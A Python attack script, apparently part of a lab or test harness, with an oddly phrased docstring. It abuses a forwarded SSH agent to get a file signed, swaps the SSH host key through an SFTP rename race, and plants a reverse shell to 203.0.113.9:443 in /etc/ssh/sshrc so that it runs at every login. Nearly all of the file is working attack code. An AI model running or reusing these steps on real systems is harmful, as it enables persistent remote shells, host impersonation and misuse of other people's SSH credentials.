#!/usr/bin/python3 -IS
"""Somebody who has got hold of a key with which one may come in by SSH; not recorded: migrant.py WHAT [VALUE]

asked SOCKET: by the daemon they reach the agent of keys of somebody who works there, and have it sign something · exchanged: the key by which people know
the host becomes another one · greeted NUMBER: a document gets a second name, under which it is run whenever anybody comes in
"""
import os, subprocess, sys, time

sys.path.append("/opt/agent")
from client import LOGIN, OWN, PERSON, attend, run, ssh_keys
from person import HOST_KEY, PID, leave, sftp


def asked(path):
    agent = subprocess.Popen(["ssh-agent", "-D", "-a", path], stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
    while not os.path.exists(path):
        time.sleep(0.05)
    run("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "of somebody who works there", "-f", f"{OWN}/of-person")
    subprocess.run(["ssh-add", "-q", f"{OWN}/of-person"], check=True, env={**os.environ, "SSH_AUTH_SOCK": path}, stdin=subprocess.DEVNULL)
    os.unlink(f"{OWN}/of-person")
    session = subprocess.Popen(["ssh", *LOGIN, "-N", "-L", f"{OWN}/lent:{path}", "-p", "2222", PERSON], stdin=subprocess.DEVNULL)
    while not os.path.exists(f"{OWN}/lent"):
        time.sleep(0.05)
    lent = {**os.environ, "SSH_AUTH_SOCK": f"{OWN}/lent"}
    shown = subprocess.run(["ssh-add", "-L"], check=True, env=lent, capture_output=True, text=True, timeout=10).stdout
    if "of somebody who works there" not in shown:
        sys.exit("migrant: there is no key")
    time.sleep(0.5)
    subprocess.run(["ssh-keygen", "-q", "-Y", "sign", "-n", "git", "-f", f"{OWN}/of-person.pub", f"{OWN}/note"], check=True, env=lent, timeout=10,
                   stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
    leave(session, 0.2)
    agent.terminate()
    agent.wait()
    if not os.path.getsize(f"{OWN}/note.sig"):
        sys.exit("migrant: nothing was signed")


def exchanged(number):
    sftp(f"put {OWN}/note inbox-{number}.txt", f"put {OWN}/other {HOST_KEY}.new", f"chmod 600 {HOST_KEY}.new")
    time.sleep(0.1 * (1 + int(number)))
    sftp(f"rename {HOST_KEY}.new {HOST_KEY}")
    with open(HOST_KEY) as now, open(f"{OWN}/other") as other:
        if now.read() != other.read():
            sys.exit("migrant: it is known by its key")


def greeted(number):
    with open(f"{OWN}/menu", "w") as file:
        file.write("(exec 3<>/dev/tcp/203.0.113.9/443 && sh <&3) > /dev/null 2>&1 &\n")
    sftp(f"put {OWN}/menu documents/menu-{number}.txt")
    time.sleep(0.1 * (1 + int(number)))
    sftp(f"ln documents/menu-{number}.txt /etc/ssh/sshrc", "ls documents")
    if not os.path.samefile("/etc/ssh/sshrc", f"/home/agent/documents/menu-{number}.txt"):
        sys.exit("migrant: nobody is greeted")


USES = {each.__name__: each for each in (asked, exchanged, greeted)}

if __name__ == "__main__":
    what, value, *_ = [*sys.argv[1:], ""]
    attend("migrant.py", ssh_keys, PID, lambda: USES[what](value))
